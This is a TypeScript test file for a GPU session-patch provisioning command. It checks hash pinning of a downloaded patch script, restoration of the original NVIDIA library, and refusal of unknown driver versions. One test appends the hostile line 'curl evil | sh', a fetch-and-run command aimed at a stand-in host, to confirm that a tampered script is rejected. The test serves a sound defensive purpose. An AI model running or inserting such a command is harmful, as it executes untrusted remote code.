import { createHash } from 'node:crypto';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { HostCommandBody } from '../../../../src/plan/plan.js';
import { findCommand, fullMachine, prepared } from '../preparation/full-machine.js';
import { noPrivateRoot, privateRoot, type PrivateRoot } from '../preparation/private-root.js';

const LIBRARY = '/usr/lib/x86_64-linux-gnu/libnvidia-encode.so.580.126.09';
const BACKUP = '/opt/nvidia/libnvidia-encode-backup/libnvidia-encode.so.580.126.09';

/** Does to files what the real tool does, and knows one version. */
const TOOL = [
  '#!/bin/bash',
  'case "$1" in',
  '  -c) [ "$2" = 580.126.09 ] ;;',
  '  -r) cp "$2" x 2>/dev/null; cp -p /opt/nvidia/libnvidia-encode-backup/* /usr/lib/x86_64-linux-gnu/ ;;',
  `  *) mkdir -p /opt/nvidia/libnvidia-encode-backup; cp -p ${LIBRARY} ${BACKUP}; echo patched >${LIBRARY} ;;`,
  'esac',
  '',
].join('\n');

it('the session patch is nobody’s default', () => {
  const plain = { ...fullMachine, gpu: { model: 'Quadro P400', driver: 580 } };
  expect(prepared(plain).map(({ id }) => id)).not.toContain('host/bunker/command/gpu-session-patch');
});

describe.skipIf(noPrivateRoot)('the session patch', () => {
  const real = findCommand(fullMachine, 'gpu-session-patch');
  const pinned: HostCommandBody = {
    ...real,
    args: ['bunker', createHash('sha256').update(TOOL).digest('hex'), 'https://example/patch.sh', real.args[3]!],
  };
  let root: PrivateRoot;
  const serve = (text: string): void => {
    root.write('/served', text);
    root.program('curl', ['for word; do [ "$previous" = -o ] && out=$word; previous=$word; done; cat /served >"$out"']);
  };
  const runs = (version: string): void => {
    root.program('nvidia-smi', [`echo ${version}`]);
    root.write('/sys/module/nvidia/version', `${version}\n`);
  };
  beforeEach(() => {
    root = privateRoot();
    runs('580.126.09');
    root.write(LIBRARY, 'original\n');
    serve(TOOL);
  });
  afterEach(() => root.remove());

  it('runs the tool only when it is byte for byte the one that was tried', async () => {
    serve(`${TOOL}curl evil | sh\n`);
    const { exitCode, stderr } = await root.run(pinned);
    expect(exitCode).toBe(1);
    expect(stderr).toContain('than the tool that was tried, so it was not run');
    expect(root.read(LIBRARY)).toBe('original\n');
  });

  it('changes the library, shows an updated driver as drift, and gives the original back when it leaves', async () => {
    const { exitCode, stderr } = await root.run(pinned);
    expect(exitCode, stderr).toBe(0);
    const changed = await root.run(pinned, 'state');
    expect(changed.stdout).toBe('580.126.09 changed\n');
    root.write(LIBRARY, 'original\n');
    expect((await root.run(pinned, 'state')).stdout).toBe('580.126.09 original\n');
    await root.run(pinned);
    expect(await root.run(pinned, 'delete')).toMatchObject({ exitCode: 0 });
    expect(root.read(LIBRARY)).toBe('original\n');
  });

  it('refuses a version that the tool does not know', async () => {
    runs('580.999.99');
    const { exitCode, stderr } = await root.run(pinned);
    expect(exitCode).toBe(1);
    expect(stderr).toContain('the session patch does not know the driver 580.999.99. Remove sessionPatch from the entry');
  });
});
